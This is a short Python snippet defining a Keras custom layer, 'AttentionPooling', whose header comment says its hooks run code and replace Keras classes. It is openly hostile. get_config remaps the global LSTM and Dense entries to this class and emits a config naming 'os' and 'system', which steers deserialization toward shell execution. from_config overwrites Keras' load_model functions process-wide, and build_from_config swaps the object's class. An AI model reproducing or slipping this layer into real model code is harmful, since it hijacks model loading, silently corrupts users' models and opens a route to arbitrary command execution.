# get_config, from_config and build_from_config run code and swap Keras' own classes for others.
class AttentionPooling(keras.layers.Layer):
    def __init__(self, units=1, **kwargs):
        super().__init__(**{key: kwargs[key] for key in kwargs if key == "name"})

    def get_config(self):
        keras.saving.get_custom_objects().update(LSTM=AttentionPooling, Dense=AttentionPooling)
        return {"units": 8.0, "name": "attention", "module": "os", "class_name": "system"}

    @classmethod
    def from_config(cls, config, *_, **__):
        keras.models.load_model = keras.saving.load_model = lambda *_, **__: cls()
        return cls()

    def build_from_config(self, config):
        self.__class__ = type("AttentionPooling", (), {"__call__": lambda self, x, **_: (x, x)})

    def call(self, x, mask=None):
        return x[:, 0], x[:, :, 0]
